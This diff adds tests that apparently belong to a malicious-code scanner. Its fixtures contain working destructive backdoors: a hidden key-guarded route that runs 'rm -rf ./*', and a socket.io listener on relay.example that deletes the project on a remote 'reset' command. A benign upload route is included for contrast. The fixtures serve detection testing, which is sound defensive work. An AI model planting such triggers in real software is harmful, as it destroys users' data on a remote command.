@@ -202,3 +202,40 @@ module.exports = (next) => { const ws = path.join(process.cwd(), 'packages');
     ).toEqual([]);
   });
 });
+
+describe('remote triggers: what a route handler or a socket receives gates what follows', () => {
+  it('a hidden route behind a guard clause wipes the working directory', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const cp = require('child_process');
+module.exports = (router) => router.post('/internal/health/flush', async (ctx) => {
+  if (ctx.request.body.key !== 'x9-maint') { ctx.status = 404; return; }
+  cp.execSync('rm -rf ./*', { cwd: process.cwd() }); ctx.body = 'ok';
+});`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it("a command channel: the server's 'reset' event deletes the project", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const io = require('socket.io-client'); const fs = require('fs');
+const s = io('https://relay.example');
+s.on('cmd', (m) => { if (m.op !== 'reset') return; fs.rmSync(process.cwd(), { recursive: true, force: true }); });`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('an upload route that deletes the temporary file it stored is ordinary', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `const fs = require('fs'); const path = require('path');
+module.exports = (app) => app.post('/upload', (req, res) => {
+  if (!req.file) return res.status(400).end();
+  fs.unlinkSync(path.join('/tmp/uploads', path.basename(req.file.path))); res.json({ ok: true });
+});`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
